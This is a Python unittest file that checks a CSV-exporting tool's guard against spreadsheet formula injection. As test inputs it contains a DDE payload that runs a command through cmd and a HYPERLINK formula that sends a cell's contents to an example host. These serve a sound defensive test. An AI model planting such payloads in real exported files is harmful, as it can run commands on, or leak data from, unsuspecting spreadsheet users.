# SPDX-License-Identifier: Apache-2.0
"""Results as CSV for spreadsheet programs, which run texts that begin like a formula."""

import csv
import io
import unittest

from support import QUICK, ProgramTest, run

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'


class Spreadsheets(ProgramTest):
    """Classes, ids and names that others chose."""

    def setUp(self):
        super().setUp()
        rows = [[f"id{i}", "1.5" if i % 2 else "-0.5", FORMULA if i % 2 else "-1"] for i in range(40)]
        self.model_path = self.path("m.mml")
        run("train", self.table("train.csv", ["who", "@sum", "answer"], rows), "--format", "plain", "--id", "who", "--model",
            self.model_path, "--quiet", *QUICK)
        ids = ["+cmd|' /C calc'!A0", "-5", "+1e3", "1234-0", "-", "a"]
        self.data = self.table("new.csv", ["who", "@sum"], [[each, "1.5" if i % 2 else "-0.5"] for i, each in enumerate(ids)])

    def table(self, name, header, rows):
        text = io.StringIO()
        csv.writer(text).writerows([header, *rows])
        return self.file(name, text.getvalue())

    def results(self, command, *more):
        result = run(command, self.model_path, self.data, "--format", "plain", "--id", "who",
                     *(["--as", "csv"] if command == "explain" else []), *more)
        self.assertEqual(result.returncode, 0, result.stderr)
        return list(csv.reader(io.StringIO(result.stdout))), result.stderr

    def test_texts_stay_as_they_are_with_a_warning(self):
        for command in ("predict", "explain"):
            rows, told = self.results(command)
            self.assertEqual([row[0] for row in rows[1:3]], ["+cmd|' /C calc'!A0", "-5"])
            self.assertIn(FORMULA, {row[1] for row in rows})
            self.assertRegex(told, r"warning: \d+ texts begin like a formula.*--spreadsheet")
            self.assertNotIn("formula", self.results(command, "--quiet")[1])

    def test_for_spreadsheets_texts_get_an_apostrophe_and_numbers_stay(self):
        for command in ("predict", "explain"):
            rows, told = self.results(command, "--spreadsheet")
            self.assertEqual([row[0].strip() for row in rows[1:]],
                             ["'+cmd|' /C calc'!A0", "-5", "+1e3", "1234-0", "-", "a"])
            self.assertLessEqual({row[1] for row in rows[1:]}, {"'" + FORMULA, "-1"})
            self.assertNotIn("formula", told)
            for row in rows[1:]:
                for cell in row[2:]:
                    float(cell)
        self.assertIn("'@sum", rows[0])


if __name__ == "__main__":
    unittest.main()
